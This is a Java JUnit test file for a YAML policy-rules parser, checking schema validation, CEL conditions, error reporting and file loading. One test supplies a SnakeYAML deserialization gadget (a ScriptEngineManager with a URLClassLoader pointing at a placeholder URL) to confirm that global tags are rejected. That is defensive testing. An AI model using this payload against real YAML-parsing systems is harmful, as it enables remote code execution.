package io.greenlang.pipeline.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import io.greenlang.common.error.ErrorCode;

class PolicyRuleSetTest {

    static Path resource(String name) {
        return Path.of("src/test/resources/policy", name);
    }

    private static PolicyRulesException rejected(String yaml) {
        try {
            PolicyRuleSet.parse(yaml, "rules.yaml");
        } catch (PolicyRulesException e) {
            return e;
        }
        throw new AssertionError("expected the rules to be rejected:\n" + yaml);
    }

    @Test
    void shouldLoadTheRunbookExampleRulesFileAsWritten() {
        PolicyRuleSet rules = PolicyRuleSet.load(resource("runbook-rules.yaml"));

        assertThat(rules.name()).isEqualTo("production-policies");
        assertThat(rules.version()).isEqualTo("1.0.0");
        assertThat(rules.rules()).singleElement().satisfies(rule -> {
            assertThat(rule.name()).isEqualTo("require_approval_for_production");
            assertThat(rule.condition()).isEqualTo("namespace == 'production'");
            assertThat(rule.action()).isEqualTo(PolicyVerdict.REQUIRE_APPROVAL);
            assertThat(rule.approvalType()).isEqualTo("manager");
            assertThat(rule.appliesTo()).containsExactly(PolicyStage.PRE_RUN);
            assertThat(rule.line()).isEqualTo(5);
        });
    }

    @Test
    void shouldSplitRulesByTheStagesTheyApplyTo() {
        PolicyRuleSet rules = PolicyRuleSet.parse("""
                name: r
                rules:
                  - {name: a, condition: 'true', action: allow}
                  - {name: b, condition: 'true', action: warn, applies_to: pre_step}
                  - {name: c, condition: 'true', action: deny, applies_to: [pre_run, pre_step]}
                """, "rules.yaml");

        assertThat(rules.rulesFor(PolicyStage.PRE_RUN)).extracting(PolicyRule::name).containsExactly("a", "c");
        assertThat(rules.rulesFor(PolicyStage.PRE_STEP)).extracting(PolicyRule::name).containsExactly("b", "c");
    }

    @Test
    void shouldRejectAConditionWithASyntaxErrorAtLoadNamingTheRuleAndLine() {
        PolicyRulesException e = rejected("""
                name: r
                rules:
                  - name: fine
                    condition: namespace == 'production'
                    action: deny
                  - name: broken_rule
                    condition: namespace == 'production' &&
                    action: deny
                """);

        assertThat(e.errorCode()).isEqualTo(ErrorCode.YAML_SCHEMA);
        assertThat(e.problems()).singleElement().satisfies(p -> {
            assertThat(p.rule()).isEqualTo("broken_rule");
            assertThat(p.path()).isEqualTo("rules[1].condition");
            assertThat(p.line()).isEqualTo(7);
            assertThat(p.message()).startsWith("invalid CEL condition");
        });
        assertThat(e.getMessage()).contains("GL-E-YAML-SCHEMA", "rules.yaml", "rule 'broken_rule'", "line 7");
    }

    @Test
    void shouldRejectAConditionUsingAnUnknownVariableOrNotYieldingABool() {
        PolicyRulesException e = rejected("""
                name: r
                rules:
                  - {name: typo, condition: "namespce == 'production'", action: deny}
                  - {name: not_bool, condition: "namespace", action: deny}
                """);

        assertThat(e.problems()).extracting(PolicyRulesException.Problem::rule).containsExactly("typo", "not_bool");
        assertThat(e.problems().get(0).message()).contains("undeclared reference to 'namespce'");
        assertThat(e.problems().get(1).message()).contains("expected type 'bool'");
    }

    @Test
    void shouldRejectAnUnknownActionListingTheAllowedActions() {
        PolicyRulesException e = rejected("""
                name: r
                rules:
                  - name: stop_prod
                    condition: namespace == 'production'
                    action: block
                """);

        assertThat(e.problems()).singleElement().satisfies(p -> {
            assertThat(p.path()).isEqualTo("rules[0].action");
            assertThat(p.rule()).isEqualTo("stop_prod");
            assertThat(p.line()).isEqualTo(5);
            assertThat(p.message()).contains("unknown action 'block'", "allow, deny, require_approval, warn");
        });
    }

    @Test
    void shouldReportEveryProblemOfTheFileAtOnce() {
        PolicyRulesException e = rejected("""
                name: r
                owner: me
                rules:
                  - name: a
                    conditon: 'true'
                    action: allow
                  - name: a
                    condition: 'true'
                    action: warn
                    approval_type: manager
                  - condition: 'true'
                    action: deny
                    applies_to: during_run
                """);

        assertThat(e.problems()).extracting(PolicyRulesException.Problem::path).containsExactly(
                "owner", "rules[0].conditon", "rules[0].condition", "rules[1].name", "rules[1].approval_type",
                "rules[2].name", "rules[2].applies_to");
        assertThat(e.problems().get(1).message()).contains("unknown field 'conditon'");
        assertThat(e.problems().get(2).message()).isEqualTo("is required");
        assertThat(e.problems().get(3).message()).contains("duplicate rule name", "line 4");
        assertThat(e.problems().get(4).message()).contains("only a rule with action require_approval");
        assertThat(e.problems().get(6).message()).contains("unknown stage 'during_run'", "pre_run, pre_step");
    }

    @Test
    void shouldRejectYamlThatDoesNotParseWithItsLine() {
        PolicyRulesException e = rejected("""
                name: r
                rules:
                  - name: a
                     condition: 'true'
                """);

        assertThat(e.errorCode()).isEqualTo(ErrorCode.YAML_INVALID);
        assertThat(e.problems()).singleElement().satisfies(p -> {
            assertThat(p.line()).isEqualTo(4);
            assertThat(p.message()).startsWith("not valid YAML");
        });
    }

    @Test
    void shouldRejectWrongShapesWithoutThrowingAnythingElse() {
        assertThat(rejected("").problems().get(0).message()).contains("empty");
        assertThat(rejected("- a\n- b\n").problems().get(0).message()).contains("must be a mapping");
        assertThat(rejected("name: r\nrules: {a: 1}\n").problems().get(0).message()).contains("must be a list");
        assertThat(rejected("name: r\nrules:\n  - just a string\n").problems().get(0).message())
                .contains("must be a mapping");
        assertThat(rejected("name: [x]\nrules: []\n").problems().get(0).message()).contains("must be a string");
        assertThat(rejected("name: r\nrules: []\n---\nname: s\nrules: []\n").errorCode())
                .isEqualTo(ErrorCode.YAML_INVALID);
    }

    @Test
    void shouldNeverInstantiateAClassNamedByAYamlTag() {
        PolicyRulesException e = rejected("""
                name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]
                rules: []
                """);

        assertThat(e.errorCode()).isEqualTo(ErrorCode.YAML_INVALID);
        assertThat(e.problems().get(0).message()).contains("Global tag is not allowed");
    }

    @Test
    void shouldRejectALocalTagOnAValue() {
        PolicyRulesException e = rejected("name: !secret production\nrules: []\n");

        assertThat(e.problems()).singleElement().satisfies(p -> {
            assertThat(p.path()).isEqualTo("name");
            assertThat(p.message()).contains("unsupported YAML tag !secret");
        });
    }

    @Test
    void shouldAcceptAnEmptyRuleList() {
        assertThat(PolicyRuleSet.parse("name: none\nrules: []\n", "x").rules()).isEmpty();
    }

    @Test
    void shouldRejectAMissingFileNamingIt(@TempDir Path dir) {
        Path missing = dir.resolve("nope.yaml");

        assertThatThrownBy(() -> PolicyRuleSet.load(missing))
                .isInstanceOf(PolicyRulesException.class)
                .hasMessageContaining(missing.toString())
                .hasMessageContaining("does not exist");
    }

    @Test
    void shouldLoadAFileWithEveryFeature(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("rules.yaml");
        Files.copy(resource("platform-rules.yaml"), file);

        PolicyRuleSet rules = PolicyRuleSet.load(file);

        assertThat(rules.rules()).hasSize(6);
        assertThat(rules.source()).isEqualTo(file.toString());
        assertThat(rules.toString()).contains("platform-policies", "2.1.0", "6 rules");
    }
}
